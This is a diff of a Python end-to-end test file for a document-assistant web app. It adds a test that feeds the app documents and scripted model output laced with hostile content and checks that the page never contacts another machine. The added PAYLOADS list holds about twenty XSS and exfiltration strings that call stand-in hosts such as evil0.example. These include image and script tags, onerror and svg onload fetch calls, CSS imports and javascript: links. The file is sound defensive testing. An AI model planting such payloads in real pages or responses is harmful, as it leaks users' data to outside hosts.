@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import contextlib
 import os
+import random
 import re
 import socket
 import subprocess
@@ -16,6 +18,7 @@ from urllib.parse import urlsplit
 
 import chromium
 import pytest
+from servers.scripted import Scripted
 
 from assistant import Assistant, Settings
 
@@ -78,10 +81,18 @@ def pdf(pages: tuple[tuple[str, ...], ...]) -> bytes:
 @pytest.fixture
 def address(tmp_path: Path) -> Iterator[str]:
     """The address of a running app over an empty library."""
+    with running(tmp_path) as found:
+        yield found
+
+
+@contextlib.contextmanager
+def running(tmp_path: Path, **settings: str) -> Iterator[str]:
+    """The app over an empty library, with further settings as in the environment."""
     with socket.socket() as free:
         free.bind(("127.0.0.1", 0))
         port = free.getsockname()[1]
     folders = {"ASSISTANT_CORPUS_DIR": str(tmp_path / "corpus"), "ASSISTANT_INDEX_DIR": str(tmp_path / "index")}
+    folders |= {f"ASSISTANT_{name.upper()}": value for name, value in settings.items()}
     command = [sys.executable, "-m", "streamlit", "run", "app.py", "--server.port", str(port)]
     with (tmp_path / "server.log").open("wb") as log:
         server = subprocess.Popen(command, cwd=ROOT, env=os.environ | folders, stdout=log, stderr=log)
@@ -233,3 +244,56 @@ def test_what_documents_say_is_shown_as_it_is_and_leads_nowhere(page: Page, addr
     page.locator("button.chip").first.click()
     page.locator("mark").wait_for()
     _unharmed(page)
+
+
+PAYLOADS = (
+    "![x](http://{at}/a.png)", "![x](//{at}/b.png)", "![x][{n}]\n\n[{n}]: http://{at}/c.png\n\n", "<img src=http://{at}/d.png>",
+    "<img src='//{at}/e' onerror=fetch('//{at}/f')>", "<script src=http://{at}/g.js></script>", "<http://{at}/h>",
+    "http://{at}/i", "www.{at}/j", "[here](http://{at}/k)", "[here](//{at}/l)", "[here][{n}]\n\n[{n}]: //{at}/m\n\n",
+    "![x](data:image/svg+xml,<svg onload=fetch('//{at}/n')>)", "<iframe src=//{at}/o></iframe>", "<style>@import '//{at}/p'</style>",
+    "<link rel=stylesheet href=//{at}/q>", "<svg><image href=//{at}/r /></svg>", "<video poster=//{at}/s></video>",
+    "[x](javascript:fetch('//{at}/t'))", "<a href=//{at}/u ping=//{at}/v>here</a>",
+)  # fmt: skip
+
+
+def hostile(rounds: int, seed: int) -> list[str]:
+    """Sentences that each carry something that would load or lead elsewhere, no two alike."""
+    made = random.Random(seed)
+    word = lambda: "".join(made.choices("abcdefghiklmnoprstuvw", k=6))  # noqa: E731
+    return [
+        f"Operators {word()} {word()} register {word()} {payload.format(at=f'evil{n}.example', n=n)} drones {word()}. [1]"
+        for n in range(rounds)
+        for payload in PAYLOADS
+    ]
+
+
+def test_nothing_that_a_document_or_a_model_says_makes_the_page_ask_another_machine(page: Page, tmp_path: Path) -> None:
+    document = "# Drone Ordinance\n\n" + "\n\n".join(hostile(5, 1)) + "\n"
+    said = "\n".join(["Operators must register every delivery drone. [1]", *hostile(5, 2)])
+    pieces = [("say", said[i : i + 7]) for i in range(0, len(said), 7)]
+    with (
+        Scripted(pieces) as server,
+        running(tmp_path, model="openai:tiny", model_base_url=server.address + "/v1") as address,
+    ):
+        page.goto(address)
+        page.get_by_role("button", name="Add documents").click()
+        page.locator("input[type=file]").set_input_files(
+            [{"name": "drones.md", "mimeType": "text/markdown", "buffer": document.encode()}]
+        )
+        page.get_by_text("is in the library").wait_for(timeout=WORKING)
+        page.get_by_role("button", name="Ask about it").click()
+        page.get_by_test_id("stChatInput").locator("textarea").fill("Must operators register drones?")
+        page.keyboard.press("Enter")
+        page.locator("button.chip").first.wait_for(timeout=WORKING)
+        assert len(server.requests) == 1
+        assert page.locator("article p.generated").count() > 50
+        assert page.get_by_text("not supported by its source").count() > 50
+        assert page.locator("article a, article img, article iframe, article svg, article script").count() == 0
+        page.locator("button.chip").first.click()
+        page.locator("mark").wait_for()
+        page.wait_for_timeout(1500)  # whatever would be loaded has been asked for by now
+        links = page.locator("a").evaluate_all("links => links.map(link => link.href)")
+        assert {urlsplit(link).hostname for link in links} <= {"127.0.0.1"}
+        shot = os.environ.get("ASSISTANT_TEST_SHOTS")
+        if shot:
+            page.screenshot(path=Path(shot) / "generated.png")
